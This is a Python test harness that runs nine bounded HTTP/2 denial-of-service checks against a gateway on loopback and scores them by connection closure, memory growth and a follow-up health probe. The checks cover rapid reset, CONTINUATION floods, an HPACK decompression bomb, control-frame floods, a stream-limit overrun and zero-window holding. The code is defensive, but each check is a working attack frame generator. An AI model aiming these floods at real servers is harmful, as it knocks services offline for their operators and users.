#!/usr/bin/env python3
"""HTTP/2 resource-exhaustion checks against the gateway's h2 door (Debian python3-h2,
python3-hyperframe, python3-hpack; loopback only; every check bounded in frames and seconds).

    h2_attacks.py --port P --pid GW_PID [--only a,b] [--json OUT]

Each check opens one TLS connection with ALPN h2 and misbehaves in one way:

  rapid_reset         HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487): the gateway must
                      send GOAWAY (or close) having processed at most MAX_RESET_STREAMS streams
  continuation_flood  HEADERS without END_HEADERS, then CONTINUATION frames each adding a new
                      field (CVE-2024-27316 class): closed before all N frames are sent
  continuation_empty  the same with zero-length CONTINUATION frames (CVE-2024-28182)
  hpack_bomb          one ~4 KB dynamic-table entry referenced N times (~16 MB decoded from
                      ~12 KB on the wire): 431, RST_STREAM, GOAWAY or close; never a 2xx
  settings_flood      SETTINGS frames while never reading, small SO_RCVBUF (CVE-2019-9515):
                      the gateway closes, sends GOAWAY, or stops reading; memory stays bounded
  ping_flood          the same with PING frames (CVE-2019-9512)
  empty_data_flood    zero-length DATA frames on one open stream (CVE-2019-9518): bounded
  stream_limit        SETTINGS_MAX_CONCURRENT_STREAMS + 50 open streams: the limit is
                      advertised and every stream past it is refused (REFUSED_STREAM)
  zero_window         INITIAL_WINDOW_SIZE 0 and 100 streams of a 1 MiB object held open
                      (CVE-2019-9517 class): the gateway buffers a bounded amount

After every check a fresh h2 connection must get 200 for /ok within 2 s, and the gateway's
peak VmRSS during the check (sampled every 20 ms) may exceed its value before by at most
--rss-max-mb (64). One line per check, then `H2-ATTACKS PASS|FAIL checks=9 fail=N`.
"""
import argparse
import json
import socket
import ssl
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

HOST = "127.0.0.1"
AUTHORITY = "localhost"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
         9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
MAX_RESET_STREAMS = 1001  # reset burst 1000 (+ the stream that tripped it)


def code_name(c):
    return CODES.get(c, str(c))


def headers_frames(sid, block, end_stream, max_frame=16384):
    """HEADERS (+ CONTINUATION) frames carrying `block`."""
    parts = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    f = HeadersFrame(sid, data=parts[0])
    if end_stream:
        f.flags.add("END_STREAM")
    if len(parts) == 1:
        f.flags.add("END_HEADERS")
    out.append(f.serialize())
    for i, p in enumerate(parts[1:], 1):
        c = ContinuationFrame(sid, data=p)
        if i == len(parts) - 1:
            c.flags.add("END_HEADERS")
        out.append(c.serialize())
    return b"".join(out)


class Peer:
    """One raw h2 client connection: frames out as bytes, frames in parsed and recorded."""

    def __init__(self, port, rcvbuf=None, settings=None):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(5)
        s.connect((HOST, port))
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.s = ctx.wrap_socket(s, server_hostname=AUTHORITY)
        if self.s.selected_alpn_protocol() != "h2":
            raise RuntimeError("h2 not negotiated")
        self.enc = Encoder()
        self.dec = Decoder()
        self.buf = b""
        self.closed = False
        self.goaway = None  # (error code, last stream id)
        self.resets = {}    # stream -> error code
        self.status = {}    # stream -> :status (from unfragmented HEADERS only)
        self.server_settings = {}
        self.settings_seen = False
        f = SettingsFrame(0, settings=settings or {})
        self.send(PREFACE + f.serialize())

    def block(self, path, method="GET"):
        return self.enc.encode([(":method", method), (":scheme", "https"),
                                (":authority", AUTHORITY), (":path", path)])

    def send(self, data):
        if self.closed:
            return False
        try:
            self.s.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def pump(self, secs=0.0, until=None):
        """Reads for up to `secs` (0: only what is there); stops early when until() is true."""
        end = time.monotonic() + secs
        while not self.closed:
            left = end - time.monotonic()
            self.s.settimeout(max(left, 0.0) if secs else 0.0)
            try:
                d = self.s.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
                break
            except (OSError, ssl.SSLError):
                self.closed = True
                break
            if not d:
                self.closed = True
                break
            self.buf += d
            self._frames()
            if until and until():
                break
            if time.monotonic() >= end:
                break
        self.s.settimeout(5)

    def _frames(self):
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            ftype = f.type
            if ftype == 0x7:  # GOAWAY
                last, code = struct.unpack(">II", payload[:8])
                if self.goaway is None:
                    self.goaway = (code, last & 0x7FFFFFFF)
            elif ftype == 0x3:  # RST_STREAM
                self.resets[f.stream_id] = struct.unpack(">I", payload[:4])[0]
            elif ftype == 0x4 and "ACK" not in f.flags:  # SETTINGS
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    self.server_settings[k] = v
                self.settings_seen = True
                a = SettingsFrame(0)
                a.flags.add("ACK")
                self.send(a.serialize())
            elif ftype == 0x6 and "ACK" not in f.flags:  # PING
                p = PingFrame(0, opaque_data=payload)
                p.flags.add("ACK")
                self.send(p.serialize())
            elif ftype == 0x1:  # HEADERS: the gateway's are small (no CONTINUATION)
                block = payload
                if "PADDED" in f.flags:
                    block = block[1:len(block) - block[0]]
                if "PRIORITY" in f.flags:
                    block = block[5:]
                try:
                    for k, v in self.dec.decode(block):
                        if k in (":status", b":status"):
                            self.status.setdefault(f.stream_id, int(v))
                except Exception:  # noqa: a decoding problem only loses a status
                    pass

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def rss_kb(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


class RssWatch:
    """Samples the gateway's VmRSS every 20 ms on a thread; .peak is the maximum seen."""

    def __init__(self, pid):
        self.pid, self.peak, self.stop = pid, rss_kb(pid), False
        self.t = threading.Thread(target=self.run, daemon=True)
        self.t.start()

    def run(self):
        while not self.stop:
            self.peak = max(self.peak, rss_kb(self.pid))
            time.sleep(0.02)

    def done(self):
        self.stop = True
        self.t.join()
        return self.peak


def health(port, timeout=2.0):
    """A fresh, well-behaved h2 client: GET /ok -> (status, ms)."""
    t0 = time.monotonic()
    try:
        raw = socket.create_connection((HOST, port), timeout=timeout)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(raw, server_hostname=AUTHORITY)
        c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        c.initiate_connection()
        c.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":authority", AUTHORITY),
                           (":path", "/ok")], end_stream=True)
        s.sendall(c.data_to_send())
        while time.monotonic() - t0 < timeout:
            s.settimeout(max(0.05, timeout - (time.monotonic() - t0)))
            d = s.recv(65536)
            if not d:
                break
            for ev in c.receive_data(d):
                if isinstance(ev, h2.events.ResponseReceived):
                    st = int(dict(ev.headers)[b":status"])
                    s.close()
                    return st, round((time.monotonic() - t0) * 1000)
            s.sendall(c.data_to_send())
        s.close()
    except Exception as e:  # noqa: any failure is a failed probe
        return "error:%s" % type(e).__name__, round((time.monotonic() - t0) * 1000)
    return "timeout", round((time.monotonic() - t0) * 1000)


TCP_ESTABLISHED = 1


def peer_closed(sock):
    """True once the gateway has closed its side of `sock`. Reads nothing from the socket, so
    a flood can go on not reading: our side leaves ESTABLISHED when the gateway's FIN or RST
    arrives, but a FIN queued behind unread data never arrives, so the gateway's end is
    looked up in /proc/net/tcp (loopback, IPv4) too: gone or no longer ESTABLISHED."""
    try:
        if sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0] != TCP_ESTABLISHED:
            return True
        mine = sock.getsockname()[1]
        theirs = sock.getpeername()[1]
    except OSError:
        return True
    try:
        with open("/proc/net/tcp") as f:
            next(f)
            for line in f:
                fields = line.split()
                if (int(fields[1].rsplit(":", 1)[1], 16) == theirs
                        and int(fields[2].rsplit(":", 1)[1], 16) == mine):
                    return int(fields[3], 16) != TCP_ESTABLISHED
    except OSError:
        return False
    return True  # the gateway's socket is gone


def connected(port, **kw):
    p = Peer(port, **kw)
    p.pump(1.0, until=lambda: p.settings_seen)
    return p


# ------------------------------------------------------------------------------------ checks
def c_rapid_reset(a):
    p = connected(a.port)
    sent, sid, t0 = 0, 1, time.monotonic()
    while (sent < 5000 and p.goaway is None and not p.closed and not peer_closed(p.s)
           and time.monotonic() - t0 < 15):
        batch = []
        for _ in range(100):
            batch.append(headers_frames(sid, p.block("/ok"), True))
            batch.append(RstStreamFrame(sid, error_code=8).serialize())
            sid += 2
            sent += 1
        if not p.send(b"".join(batch)):
            break
        p.pump(0)
    p.pump(2.0, until=lambda: p.goaway is not None)
    p.close()
    processed = (p.goaway[1] + 1) // 2 if p.goaway else None
    ok = (p.goaway is not None and processed <= MAX_RESET_STREAMS) or (p.goaway is None and p.closed)
    why = ""
    if p.goaway is None and not p.closed:
        why = "accepted %d HEADERS+RST pairs without GOAWAY" % sent
    elif p.goaway is not None and processed > MAX_RESET_STREAMS:
        why = "GOAWAY only after %d streams" % processed
    return ok, why, {"pairs_sent": sent, "goaway": code_name(p.goaway[0]) if p.goaway else None,
                     "streams_processed": processed, "closed": p.closed}


def _continuations(a, empty):
    n = 10000
    p = connected(a.port)
    p.send(_headers_no_end(1, p.block("/ok")))
    sent, t0 = 0, time.monotonic()
    while (sent < n and not p.closed and p.goaway is None and not peer_closed(p.s)
           and time.monotonic() - t0 < 15):
        frames = []
        for _ in range(50):
            if empty:
                payload = b""
            else:  # literal without indexing, a new name every time
                name, value = b"x-c%d" % sent, b"v" * 32
                payload = b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
            frames.append(ContinuationFrame(1, data=payload).serialize())
            sent += 1
        if not p.send(b"".join(frames)):
            break
        p.pump(0)
    p.pump(1.0, until=lambda: p.closed or p.goaway is not None)
    p.close()
    stopped = p.closed or p.goaway is not None or 1 in p.resets
    ok = stopped and sent < n and p.status.get(1) is None
    why = "" if ok else ("answered %s" % p.status.get(1) if p.status.get(1) else
                         "still open after %d CONTINUATION frames" % sent)
    return ok, why, {"continuations_sent_before_close": sent,
                     "goaway": code_name(p.goaway[0]) if p.goaway else None, "closed": p.closed}


def _headers_no_end(sid, block):
    f = HeadersFrame(sid, data=block)
    f.flags.add("END_STREAM")  # END_HEADERS deliberately missing
    return f.serialize()


def c_continuation_flood(a):
    return _continuations(a, empty=False)


def c_continuation_empty(a):
    return _continuations(a, empty=True)


def _hpack_int(prefix_bits, first, n):
    limit = (1 << prefix_bits) - 1
    if n < limit:
        return bytes([first | n])
    out = bytearray([first | limit])
    n -= limit
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def c_hpack_bomb(a):
    n_refs = 4000
    p = connected(a.port)
    name, value = b"x-bomb", b"A" * 4000
    # literal with incremental indexing, new name: 0x40, name, value (7-bit length prefix)
    lit = b"\x40" + _hpack_int(7, 0, len(name)) + name + _hpack_int(7, 0, len(value)) + value
    # Built by hand (not with p.enc) so that index 62 is exactly our entry.
    base = (b"\x82"  # :method GET
            b"\x87"  # :scheme https
            b"\x04" + _hpack_int(7, 0, 3) + b"/ok"  # :path literal without indexing
            + b"\x01" + _hpack_int(7, 0, len(AUTHORITY)) + AUTHORITY.encode())  # :authority
    block = base + lit + b"\xbe" * n_refs  # 0xbe = indexed field 62: the newest entry
    maxf = p.server_settings.get(5, 16384)
    p.send(headers_frames(1, block, True, maxf))
    p.pump(3.0, until=lambda: 1 in p.status or 1 in p.resets or p.goaway is not None)
    p.close()
    st = p.status.get(1)
    answered = st is not None or 1 in p.resets or p.goaway is not None or p.closed
    ok = answered and (st is None or st >= 400)
    why = "" if ok else ("answered %s to a %d MB header list" % (st, (4038 * n_refs) >> 20)
                         if st else "no answer within 3 s")
    return ok, why, {"wire_bytes": len(block), "decoded_bytes": (len(name) + len(value) + 32) * (n_refs + 1),
                     "status": st, "rst": code_name(p.resets[1]) if 1 in p.resets else None,
                     "goaway": code_name(p.goaway[0]) if p.goaway else None}


def _control_flood(a, make):
    n = 1_000_000
    p = connected(a.port, rcvbuf=4096)
    sent, t0, backpressure = 0, time.monotonic(), False
    p.s.settimeout(2.0)
    one_k = None
    while sent < n and not p.closed and time.monotonic() - t0 < 15:
        if peer_closed(p.s):
            p.closed = True
            break
        one_k = one_k or b"".join(make(i) for i in range(1000))
        try:
            p.s.sendall(one_k)
        except socket.timeout:
            backpressure = True  # the gateway stopped reading: a bound too
            break
        except (OSError, ssl.SSLError):
            p.closed = True
            break
        sent += 1000
    p.pump(2.0, until=lambda: p.closed)
    p.close()
    limited = p.closed or p.goaway is not None or backpressure
    return limited, "" if limited else "absorbed all %d frames" % sent, {
        "frames_sent_before_close": sent, "goaway": code_name(p.goaway[0]) if p.goaway else None,
        "closed": p.closed, "stopped_reading": backpressure}


def c_settings_flood(a):
    return _control_flood(a, lambda i: SettingsFrame(0, settings={4: 65535 + (i & 1)}).serialize())


def c_ping_flood(a):
    return _control_flood(a, lambda i: PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize())


def c_empty_data_flood(a):
    n = 100_000
    p = connected(a.port)
    p.send(headers_frames(1, p.block("/sha256", "POST"), False))
    empty = DataFrame(1, data=b"").serialize() * 500
    sent, t0 = 0, time.monotonic()
    while (sent < n and not p.closed and p.goaway is None and not peer_closed(p.s)
           and time.monotonic() - t0 < 15):
        if not p.send(empty):
            break
        sent += 500
        p.pump(0)
    p.pump(1.0, until=lambda: p.closed or p.goaway is not None)
    p.close()
    limited = p.closed or p.goaway is not None or 1 in p.resets
    # Absorbing them is acceptable when memory stays bounded (checked by the caller).
    return True, "", {"frames_sent": sent, "limited": limited,
                      "goaway": code_name(p.goaway[0]) if p.goaway else None}


def c_stream_limit(a):
    p = connected(a.port)
    mcs = p.server_settings.get(3)
    n = (mcs if mcs and mcs < 10000 else 1000) + 50
    out = [headers_frames(1 + 2 * i, p.block("/sha256", "POST"), False) for i in range(n)]
    p.send(b"".join(out))
    p.pump(3.0, until=lambda: len(p.resets) >= 50)
    p.close()
    refused = sorted(s for s, c in p.resets.items() if c == 7)
    excess = [1 + 2 * i for i in range(mcs or 0, n)]
    # RFC 9113 §5.1.2: a stream past the limit is a stream error (REFUSED_STREAM). nghttp2
    # treats exceeding a limit the client has already acknowledged as a connection error:
    # GOAWAY whose last stream id shows that exactly the first `mcs` streams were processed.
    by_rst = refused == excess
    by_goaway = (p.goaway is not None and mcs is not None and p.goaway[1] == 2 * mcs - 1)
    ok = mcs is not None and (by_rst or by_goaway)
    why = ""
    if mcs is None:
        why = "no SETTINGS_MAX_CONCURRENT_STREAMS advertised"
    elif not ok:
        why = "expected the %d streams past %d refused: %d REFUSED_STREAM, GOAWAY %s" % (
            len(excess), mcs, len(refused), p.goaway)
    return ok, why, {"max_concurrent_streams": mcs, "opened": n, "refused_stream": len(refused),
                     "goaway": "%s last=%d" % (code_name(p.goaway[0]), p.goaway[1]) if p.goaway else None}


def c_zero_window(a):
    p = Peer(a.port, settings={4: 0})  # INITIAL_WINDOW_SIZE 0: no DATA may be sent to us
    p.pump(1.0, until=lambda: p.settings_seen)
    n = min(100, p.server_settings.get(3, 100))
    p.send(b"".join(headers_frames(1 + 2 * i, p.block("/big?bytes=1048576"), True) for i in range(n)))
    t0 = time.monotonic()
    while time.monotonic() - t0 < a.hold and not p.closed:
        p.pump(0.5)
    p.close()
    return True, "", {"streams": n, "object_bytes": 1 << 20, "held_s": round(time.monotonic() - t0, 1),
                      "heads_received": len(p.status), "closed_by_gateway": p.closed}


CHECKS = {
    "rapid_reset": c_rapid_reset,
    "continuation_flood": c_continuation_flood,
    "continuation_empty": c_continuation_empty,
    "hpack_bomb": c_hpack_bomb,
    "settings_flood": c_settings_flood,
    "ping_flood": c_ping_flood,
    "empty_data_flood": c_empty_data_flood,
    "stream_limit": c_stream_limit,
    "zero_window": c_zero_window,
}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--only", default="")
    ap.add_argument("--rss-max-mb", type=float, default=64)
    ap.add_argument("--hold", type=float, default=5.0, help="zero_window hold time (s)")
    ap.add_argument("--json")
    a = ap.parse_args()
    names = [n for n in CHECKS if not a.only or n in a.only.split(",")]
    results, fails = [], 0
    for name in names:
        base = rss_kb(a.pid)
        watch = RssWatch(a.pid)
        t0 = time.monotonic()
        try:
            ok, why, info = CHECKS[name](a)
        except Exception as e:  # noqa: a harness error is a failed check
            ok, why, info = False, "harness error %s: %s" % (type(e).__name__, e), {}
        time.sleep(0.3)
        peak = watch.done()
        st, ms = health(a.port)
        growth_mb = round((peak - base) / 1024, 1)
        reasons = [why] if why else []
        if st != 200:
            reasons.append("health probe: %s after %d ms" % (st, ms))
        if growth_mb > a.rss_max_mb:
            reasons.append("gateway RSS grew %.1f MB (> %g)" % (growth_mb, a.rss_max_mb))
        if not (isinstance(st, int) and st == 200 and ms <= 2000):
            ok = False
        verdict = "PASS" if ok and not reasons else "FAIL"
        fails += verdict == "FAIL"
        r = dict(check=name, verdict=verdict, secs=round(time.monotonic() - t0, 1), health=st,
                 health_ms=ms, rss_growth_mb=growth_mb, why="; ".join(reasons), **info)
        results.append(r)
        shown = " ".join("%s=%s" % (k, v) for k, v in info.items() if v is not None)
        print("%s %-19s %s health=%s/%dms rss+%.1fMB %.1fs %s" % (
            verdict, name, shown, st, ms, growth_mb, r["secs"], r["why"]), flush=True)
    if a.json:
        with open(a.json, "w") as f:
            json.dump(results, f, indent=1)
    print("H2-ATTACKS %s checks=%d fail=%d" % ("PASS" if not fails else "FAIL", len(results), fails))
    return 1 if fails else 0


if __name__ == "__main__":
    sys.exit(main())
